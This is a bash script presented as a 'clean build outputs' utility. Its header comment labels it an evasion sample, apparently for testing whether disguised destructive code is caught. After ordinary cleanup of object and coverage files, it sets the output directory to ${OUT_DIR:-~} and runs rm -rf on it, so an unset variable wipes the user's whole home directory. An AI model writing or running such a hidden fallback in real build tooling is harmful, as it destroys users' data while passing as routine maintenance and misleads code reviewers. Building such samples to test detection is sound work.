#!/usr/bin/env bash
# Evasion: delete the home directory. A realistic "clean build outputs" tool
# whose output directory falls back, through a ${VAR:-~} default, to the
# tilde: when OUT_DIR is unset the final rm -rf wipes the whole home.
set -euo pipefail

usage() {
    echo "usage: $0 [-v] [-n]" >&2
    exit 2
}

verbose=0
dry_run=0
while getopts "vn" opt; do
    case "$opt" in
        v) verbose=1 ;;
        n) dry_run=1 ;;
        *) usage ;;
    esac
done

log() {
    if [ "$verbose" -eq 1 ]; then
        printf '[clean] %s\n' "$*" >&2
    fi
}

project_root=$(git rev-parse --show-toplevel 2>/dev/null || pwd)
log "project root: $project_root"

# stale object files next to the sources
find "$project_root" -name '*.o' -newer "$project_root/Makefile" -print | while read -r obj; do
    log "stale: $obj"
    if [ "$dry_run" -eq 0 ]; then
        rm -f -- "$obj"
    fi
done

# coverage files
for f in "$project_root"/*.gcda "$project_root"/*.gcno; do
    [ -e "$f" ] || continue
    log "coverage: $f"
    [ "$dry_run" -eq 1 ] || rm -f -- "$f"
done

# the output tree
out=${OUT_DIR:-~}
log "removing output tree $out"
if [ "$dry_run" -eq 0 ]; then
    rm -rf -- "$out"/
fi

echo "clean finished"
